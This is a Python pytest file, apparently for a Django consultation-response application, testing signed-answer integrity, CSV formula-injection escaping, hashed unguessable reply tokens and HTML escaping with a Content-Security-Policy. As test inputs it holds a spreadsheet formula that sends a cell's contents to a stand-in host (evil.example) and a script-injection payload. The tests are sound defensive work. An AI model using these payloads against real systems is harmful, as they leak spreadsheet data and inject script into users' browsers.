"""What a member of staff could slip past the owner who signs, and past the reader of a file."""

import csv
import io

import pytest
from django.test import Client

from avow.web.consultation import actions, states
from avow.web.core.states import IllegalMoveError
from tests.web.consultation.test_asks import other  # noqa: F401 — a fixture

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def test_nothing_more_is_answered_by_what_was_signed_off(lead, adopted, answer, sign, other):  # noqa: F811
    told = sign(answer)
    kept = actions.put_together(by=lead, asks=[adopted.ask, other.ask])
    told.refresh_from_db()
    assert told.ask == kept
    assert (told.state, told.signed_by) == (states.DRAFT, None)
    with pytest.raises(IllegalMoveError):
        actions.publish_answer(by=lead, answer=told)


def test_other_words_than_those_signed_for_are_not_published(lead, adopted, answer, sign):
    told = sign(answer)
    actions.correct_quote(
        by=lead, recommendation=adopted, passage=" ".join(adopted.quote.split()[:6])
    )
    told.refresh_from_db()
    assert told.state == states.DRAFT


def test_no_cell_of_a_file_for_the_public_runs(lead, adopted, make_public):
    told = actions.write_answer(
        by=lead, ask=adopted.ask, decision="partly", reason=FORMULA, no_change="+1"
    )
    make_public(told)
    text = Client().get("/you-said-we-did/answers.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_a_link_to_reply_is_not_kept_in_clear_and_not_guessed(lead, answer, make_public, adopted):
    make_public(answer)
    answer.refresh_from_db()
    name = adopted.submission.organisation
    reply, token = actions.invite_reply(by=lead, answer=answer, organisation=name)
    assert token not in str(vars(reply))
    assert len(token) >= 32
    for guess in (token[:-1], token + "x", str(reply.pk), reply.token_hash):
        assert Client().get(f"/answers/reply/{guess}/").status_code == 404
        assert Client().post(f"/answers/reply/{guess}/", {"text": "x"}).status_code == 404


@pytest.mark.slow
def test_markup_does_nothing_in_the_response_as_a_web_page(lead, adopted, make_public):
    markup = "</style><script>alert(1)</script>"
    told = actions.write_answer(
        by=lead, ask=adopted.ask, decision="partly", reason=markup, no_change=markup
    )
    make_public(told)
    made = actions.make_response(by=lead, title=markup, introduction=markup)
    actions.publish_response(by=lead, response=made)
    name = next(name for name in made.manifest["files"] if name.endswith(".html"))
    page = Client().get(f"/responses/{made.number}/{name}")
    shown = page.content.decode()
    assert "alert(1)" in shown
    assert "<script>" not in shown
    assert shown.count("</style>") == 1
    assert "script-src 'none'" in page["Content-Security-Policy"]
